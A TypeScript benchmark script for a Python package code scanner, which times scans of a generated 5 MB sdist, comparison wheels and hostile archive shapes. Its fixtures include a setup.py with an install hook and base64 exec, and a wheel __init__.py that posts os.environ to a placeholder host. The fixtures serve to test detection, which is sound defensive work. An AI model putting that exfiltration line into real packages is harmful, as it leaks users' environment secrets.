// Bench hook (scripts/bench/extras.ts): how long the install-time code scan takes on a 5 MB sdist,
// the bytes-in → findings-out part that runs in the service worker after the download, and on the
// hostile shapes of issue 16 (scripts/bench/hostile-archives.ts).
// The sdist is built here from the machine's own Python standard library sources (real code, so it
// compresses like a real sdist), with a setup.py carrying the patterns the scanner looks for.
//   npx tsx scripts/bench-code-scan.ts      prints the figures alone
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'fflate';
import { packTar } from 'modern-tar';
import { gunzipCapped, MAX_UNPACKED_BYTES } from '../utils/analysis/code-scan/archive';
import { scanDistribution } from '../utils/analysis/code-scan';
import { HOSTILE_SHAPES } from './bench/hostile-archives';
import { markNewFindings } from '../utils/analysis/code-scan/new-in-release';
import { syntheticWheel } from '../test/unit/utils/analysis/code-scan/synthetic-archives';

export const TARGET_SDIST_BYTES = 5 * 1024 * 1024;

const SETUP_PY = `from setuptools import setup
from setuptools.command.install import install
import base64, subprocess

class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["echo", "installed"])

setup(name="bench", version="1.0", cmdclass={"install": PostInstall})
exec(base64.b64decode("cHJpbnQoJ2JlbmNoJyk="))
`;

function pythonSources(): string[] {
  let root: string;
  try {
    root = execFileSync('python3', ['-c', "import sysconfig; print(sysconfig.get_paths()['stdlib'])"], { encoding: 'utf8' }).trim();
  } catch {
    return [];
  }
  const files: string[] = [];
  const walk = (dir: string, depth: number) => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name);
      if (name === '__pycache__' || name === 'site-packages') continue;
      const stat = statSync(path, { throwIfNoEntry: false });
      if (stat?.isDirectory() && depth < 4) walk(path, depth + 1);
      else if (stat?.isFile() && name.endsWith('.py')) files.push(path);
    }
  };
  walk(root, 0);
  return files;
}

/** A .tar.gz of about `targetBytes`, laid out like an sdist ("bench-1.0/…"). */
export async function buildBenchSdist(targetBytes = TARGET_SDIST_BYTES): Promise<Uint8Array> {
  const sources = pythonSources();
  const entries: { header: { name: string; size: number }; body: Uint8Array }[] = [];
  const add = (name: string, body: Uint8Array) => entries.push({ header: { name: `bench-1.0/${name}`, size: body.length }, body });
  add('setup.py', new TextEncoder().encode(SETUP_PY));
  add('PKG-INFO', new TextEncoder().encode('Metadata-Version: 2.1\nName: bench\nVersion: 1.0\n'));
  let raw = 0;
  let round = 0;
  // Python source gzips about 4:1; add files until the archive reaches the target.
  for (;;) {
    const archive = gzipSync(await packTar(entries), { level: 6 });
    if (archive.length >= targetBytes) return archive;
    const goal = raw + (targetBytes - archive.length) * 4;
    for (const [i, path] of sources.entries()) {
      if (raw >= goal) break;
      const body = new Uint8Array(readFileSync(path));
      add(`src/copy${round}/${i}-${path.split('/').pop()}`, body);
      raw += body.length;
    }
    if (sources.length === 0) {
      // No Python here: pseudo-random printable text stands in (it compresses far less, so fewer bytes).
      const body = new TextEncoder().encode(
        Array.from({ length: 200_000 }, (_, k) => String.fromCharCode(32 + ((k * 7919 + round) % 95))).join(''),
      );
      add(`src/filler${round}.py`, body);
      raw += body.length;
    }
    round += 1;
  }
}

const BENCH_META = {
  filename: 'bench-1.0.tar.gz',
  url: 'https://files.pythonhosted.org/packages/00/00/0000/bench-1.0.tar.gz',
  packageType: 'sdist' as const,
  sha256: null,
  size: 0,
  project: 'bench',
  version: '1.0',
};

export async function runCodeScanBench(runs = 5) {
  const sdist = await buildBenchSdist();
  const meta = { ...BENCH_META, size: sdist.length };
  const scanMs: number[] = [];
  // CPU time of this process as well: on a shared, loaded machine wall time mostly measures the queue.
  const scanCpuMs: number[] = [];
  const gunzipMs: number[] = [];
  let findings = 0;
  let entries = 0;
  for (let run = 0; run < runs; run++) {
    const t0 = performance.now();
    const cpu0 = process.cpuUsage();
    const result = await scanDistribution(sdist, meta);
    const cpu = process.cpuUsage(cpu0);
    scanMs.push(performance.now() - t0);
    scanCpuMs.push((cpu.user + cpu.system) / 1000);
    findings = result.findings.length;
    entries = result.distribution.entryCount;
    const t1 = performance.now();
    gunzipCapped(sdist, MAX_UNPACKED_BYTES);
    gunzipMs.push(performance.now() - t1);
  }
  const unpacked = gunzipCapped(sdist, MAX_UNPACKED_BYTES).length;
  const release = await releaseComparisonBench(sdist, runs);
  return {
    ...release,
    sdistBytes: sdist.length,
    unpackedBytes: unpacked,
    entries,
    findings,
    scanMs,
    scanCpuMs,
    gunzipMs,
    ...(await hostileShapes(runs)),
  };
}

/** The wheel of a release: the same sources as package modules, a module-level __init__.py that sends the environment (or not). */
function benchWheel(version: string, leaks: boolean): Uint8Array {
  const files: Record<string, Uint8Array | string> = {
    'bench/__init__.py': leaks ? 'import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n' : 'import requests\n',
    [`bench-${version}.dist-info/METADATA`]: `Name: bench\nVersion: ${version}\n`,
  };
  for (const [i, path] of pythonSources().slice(0, 600).entries()) files[`bench/m${i}/${path.split('/').pop()}`] = readFileSync(path);
  return syntheticWheel(files);
}

/**
 * Issue 18 §3: the 5 MB sdist, its wheel and the previous release's wheel scanned one after the other, and the
 * findings compared: what the background does when the viewed release has something to mark new.
 */
async function releaseComparisonBench(sdist: Uint8Array, runs: number) {
  const wheel = benchWheel('1.0', true);
  const previous = benchWheel('0.9', false);
  const wheelMeta = { ...BENCH_META, filename: 'bench-1.0-py3-none-any.whl', packageType: 'bdist_wheel' as const, size: wheel.length };
  const prevMeta = { ...wheelMeta, filename: 'bench-0.9-py3-none-any.whl', version: '0.9', size: previous.length };
  const releaseScanMs: number[] = [];
  let newFindings = 0;
  for (let run = 0; run < runs; run++) {
    const t0 = performance.now();
    const [s, w, p] = [
      await scanDistribution(sdist, { ...BENCH_META, size: sdist.length }),
      await scanDistribution(wheel, wheelMeta),
      await scanDistribution(previous, prevMeta),
    ];
    const marked = markNewFindings(
      { version: '1.0', distributions: [s.distribution, w.distribution], findings: [...s.findings, ...w.findings] },
      { version: '0.9', distributions: [p.distribution], findings: p.findings },
    );
    releaseScanMs.push(performance.now() - t0);
    newFindings = marked.filter((f) => f.newInRelease).length;
  }
  return { releaseWheelBytes: wheel.length, releaseScanMs, releaseNewFindings: newFindings };
}

/**
 * Scan time of each hostile shape (issue 16 §3), its size and report size, and the longest the event
 * loop waited while it ran: what a message to the worker would wait for during the scan.
 */
async function hostileShapes(runs: number): Promise<Record<string, number | number[]>> {
  const figures: Record<string, number | number[]> = {};
  for (const shape of HOSTILE_SHAPES) {
    const bytes = await shape.build();
    const meta = {
      ...BENCH_META,
      filename: shape.filename,
      packageType: shape.filename.endsWith('.whl') ? ('bdist_wheel' as const) : ('sdist' as const),
    };
    const times: number[] = [];
    let gap = 0;
    let reportBytes = 0;
    for (let run = 0; run < Math.min(runs, 3); run++) {
      // The longest stretch without a macrotask turn: how long a message to the worker would wait.
      let last = performance.now();
      let running = true;
      const tick = () => {
        const at = performance.now();
        gap = Math.max(gap, at - last);
        last = at;
        if (running) setTimeout(tick, 0);
      };
      setTimeout(tick, 0);
      const t0 = performance.now();
      const result = await scanDistribution(bytes, meta, { now: () => performance.now() });
      const end = performance.now();
      times.push(end - t0);
      gap = Math.max(gap, end - last);
      running = false;
      reportBytes = JSON.stringify(result).length;
    }
    figures[`${shape.name}ScanMs`] = times;
    figures[`${shape.name}ArchiveBytes`] = bytes.length;
    figures[`${shape.name}ReportBytes`] = reportBytes;
    figures[`${shape.name}EventLoopMaxGapMs`] = gap;
  }
  return figures;
}

if (process.argv[1]?.endsWith('bench-code-scan.ts')) {
  void runCodeScanBench().then((result) => console.log(JSON.stringify(result, null, 2)));
}
